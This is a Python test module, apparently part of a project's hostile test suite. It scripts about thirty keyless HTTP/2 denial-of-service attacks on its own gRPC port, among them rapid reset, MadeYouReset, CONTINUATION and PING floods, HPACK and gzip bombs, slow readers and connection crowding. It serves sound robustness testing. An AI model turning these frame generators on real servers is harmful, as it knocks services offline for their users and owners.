"""Attacks on the gRPC port by HTTP/2 frames. None of them needs a key."""

from __future__ import annotations

import struct
import threading
import zlib
from collections.abc import Callable, Iterator, Mapping

from baton.wire.http2.header_blocks import Header, write_headers
from tests.hostile.http2_client import GREETING, WindowedClient, WindowedTalk, windowed
from tests.hostile.peers import PREFACE, Answers, Says, Target, crowd, flood, many_peers, saying
from tests.support.http2_frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PADDED,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    request_fields,
)

CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
EMPTY_MESSAGE = b"\0\0\0\0\0"
_INITIAL_WINDOW = 4
_PIECE = 100
"""Frames or streams in one write."""
_LAST_STREAM = (1 << 31) - 1


def _block(path: str, *more: Header) -> bytes:
    return write_headers([*request_fields(path), *more])


def _window(stream: int, by: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", by))


def _streams(of_stream: Callable[[int], bytes], greeting: bytes = GREETING, until: int = _LAST_STREAM) -> Says:
    """The greeting, and then what is said of one stream after the other."""

    def says(_: int) -> Iterator[bytes]:
        yield greeting
        for first in range(1, until, 2 * _PIECE):
            yield b"".join(of_stream(stream) for stream in range(first, min(first + 2 * _PIECE, until), 2))

    return says


def _forever(first: bytes, again: bytes, times: int = _PIECE) -> Says:
    """Something once, and then something else as long as it is taken."""

    def says(_: int) -> Iterator[bytes]:
        yield first
        while True:
            yield again * times

    return says


def _open(path: str, *more: Header, stream: int = 1) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, _block(path, *more))


def _whole(path: str) -> Callable[[int], bytes]:
    block, body = _block(path), EMPTY_MESSAGE
    return lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)


def _rapid_reset() -> Says:
    block, cancel = _block(CHECK), struct.pack(">I", 8)
    return _streams(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel))


def _made_you_reset() -> Says:
    """CVE-2025-8671: the server is made to reset what it has begun."""
    block = _block(WATCH)
    return _streams(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + _window(stream, 0))


def _half_open(_: int) -> Iterator[bytes]:
    """Watch says its first word and then waits; ten thousand streams, again and again."""
    block = _block(WATCH)
    yield GREETING + _window(0, 1 << 30)
    for first in range(1, 20_000, 2 * _PIECE):
        streams = range(first, first + 2 * _PIECE, 2)
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, EMPTY_MESSAGE) for stream in streams
        )
    raise ConnectionResetError


def _hpack_bomb() -> Says:
    """An entry as large as the table, and then lists that name it with one byte each."""
    large = b"\x40" + b"\x01a" + b"\x7f" + bytes([0x80 | (3900 - 127) & 127, (3900 - 127) >> 7]) + b"x" * 3900
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, _block(CHECK) + large)

    def says(_: int) -> Iterator[bytes]:
        yield GREETING + first
        for stream in range(3, _LAST_STREAM, 2):
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, _block(CHECK) + b"\xbe" * 16_000)

    return says


def _huffman() -> Says:
    """Headers of which every byte is five bits: as much work a byte as there is."""
    value = b"\x00" * 4000
    literal = b"\x00\x01x" + b"\xff" + bytes([0x80 | (4000 - 127) & 127, (4000 - 127) >> 7]) + value
    block = _block(CHECK) + literal
    return _streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block))


def _header_list() -> Says:
    block = _block(CHECK) + write_headers([(f"x-{number}", "v" * 20) for number in range(400)])
    return _streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block[:16_000]))


def _overflow(_: int) -> Iterator[bytes]:
    most = (1 << 31) - 1
    yield GREETING + _open(WATCH) + frame(DATA, 0, 1, EMPTY_MESSAGE) + _window(1, most) * 2 + _window(0, most) * 2
    while True:
        yield _window(0, most) * _PIECE


def _slow_reader(_: int) -> Iterator[bytes]:
    """Calls with answers, a window of one byte for each, and nothing is read."""
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW, 1))
    block = _block(CHECK)
    yield PREFACE + settings
    for stream in range(1, 4_000, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)


def _bytewise(client: WindowedClient, over: threading.Event, _: int) -> None:
    """One message, a byte a frame."""
    client.open(1, _block(CHECK))
    client.send(1, b"\0" + struct.pack(">I", 1 << 20))
    while not over.is_set():
        client.send(1, b"\x0a" * 1000, frame_bytes=1)


def _gzip_bomb(client: WindowedClient, over: threading.Event, _: int) -> None:
    """Sixteen megabytes of zeros in sixteen kilobytes."""
    packed = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = packed.compress(bytes(16 << 20)) + packed.flush()
    block = _block(CHECK, ("grpc-encoding", "gzip"))
    for stream in range(1, 100_000, 2):
        if over.is_set():
            return
        client.open(stream, block)
        client.send(stream, b"\1" + struct.pack(">I", len(bomb)) + bomb, ends=True)


def _many_messages(client: WindowedClient, over: threading.Event, _: int) -> None:
    """A call that takes one message is sent a million."""
    for stream in range(1, 100_000, 2):
        if over.is_set():
            return
        client.open(stream, _block(CHECK))
        for _ in range(100):
            client.send(stream, EMPTY_MESSAGE * 12_000)


def _paths() -> Says:
    """Long ones, ones with control characters, and a method that nobody has."""
    blocks = [_block(path) for path in ("/" + "a" * 7000, "/baton.v1.Generation/List\x00Models", "/a\r\nb", "*", "/")]
    return _streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, blocks[stream // 2 % len(blocks)]))


def _huge_keys() -> Says:
    block = _block("/baton.v1.Generation/ListModels", ("authorization", "Bearer baton-" + "k" * 6000))
    return _streams(
        lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
    )


def _huge_promise(_: int) -> Iterator[bytes]:
    """A message that is said to be of four gigabytes."""
    for stream in range(1, 2_000, 2):
        yield (
            (GREETING if stream == 1 else b"")
            + _open(CHECK, stream=stream)
            + frame(DATA, 0, stream, b"\0\xff\xff\xff\xff")
        )


def _reversed_settings(_: int) -> Iterator[bytes]:
    """Settings whose acknowledgements nobody reads."""
    yield GREETING
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW, 1000) * 100) * 20


Attack = Callable[[Target, threading.Event], Answers]


def _by(count: int, says: Says, *, reads: bool = True) -> Attack:
    return lambda target, over: flood(target, over, "grpc", count, saying(says, reads=reads))


def _windowed(count: int, talk: WindowedTalk) -> Attack:
    return lambda target, over: flood(target, over, "grpc", count, windowed(talk))


ATTACKS: Mapping[str, Attack] = {
    "http2 rapid reset": _by(4, _rapid_reset()),
    "http2 MadeYouReset": _by(4, _made_you_reset()),
    "http2 CONTINUATION flood": _by(
        4,
        _forever(
            GREETING + frame(HEADERS, 0, 1, _block(CHECK)), frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 200), 10
        ),
    ),
    "http2 empty CONTINUATION flood": _by(
        4, _forever(GREETING + frame(HEADERS, 0, 1, _block(CHECK)), frame(CONTINUATION, 0, 1), 1000)
    ),
    "http2 SETTINGS flood": _by(4, _forever(GREETING, frame(SETTINGS, 0, 0), 1000)),
    "http2 SETTINGS nobody reads": _by(4, _reversed_settings, reads=False),
    "http2 SETTINGS acknowledgements": _by(4, _forever(GREETING, frame(SETTINGS, ACK, 0), 1000)),
    "http2 PING flood": _by(4, _forever(GREETING, frame(PING, 0, 0, bytes(8)), 1000)),
    "http2 PING nobody reads": _by(4, _forever(GREETING, frame(PING, 0, 0, bytes(8)), 1000), reads=False),
    "http2 PRIORITY flood": _by(4, _forever(GREETING, frame(PRIORITY, 0, 3, bytes(5)), 1000)),
    "http2 unknown frames": _by(4, _forever(GREETING, frame(0xAA, 0, 0, bytes(8)), 1000)),
    "http2 HPACK bomb": _by(12, _hpack_bomb()),
    "http2 Huffman headers": _by(12, _huffman()),
    "http2 header lists": _by(12, _header_list()),
    "http2 WINDOW_UPDATE overflow": _by(4, _overflow),
    "http2 WINDOW_UPDATE flood": _by(4, _forever(GREETING, _window(0, 1), 1000)),
    "http2 empty DATA": _by(4, _forever(GREETING + _open(CHECK), frame(DATA, 0, 1), 1000)),
    "http2 padding alone": _by(4, _forever(GREETING + _open(CHECK), frame(DATA, PADDED, 1, b"\xff" + bytes(255)), 60)),
    "http2 DATA of one byte": _windowed(12, _bytewise),
    "http2 DATA of one byte, 80 connections": _windowed(80, _bytewise),
    "http2 slow reader": _by(8, _slow_reader, reads=False),
    "http2 half-open streams": _by(3, _half_open),
    "http2 plain calls": _by(12, _streams(_whole(CHECK))),
    "http2 plain calls, 80 connections": _by(80, _streams(_whole(CHECK))),
    "http2 unary call of many messages": _windowed(4, _many_messages),
    "http2 message of four gigabytes": _by(4, _huge_promise),
    "http2 gzip bomb": _windowed(4, _gzip_bomb),
    "http2 paths": _by(4, _paths()),
    "http2 huge keys": _by(12, _huge_keys()),
    "http2 connections of one peer": lambda target, over: crowd(target, over, "grpc", 4_000, GREETING),
    "http2 connections of many peers": lambda target, over: crowd(target, over, "grpc", 4_000, GREETING, many_peers),
    "http2 half a greeting": lambda target, over: crowd(target, over, "grpc", 1_000, PREFACE[:10]),
}
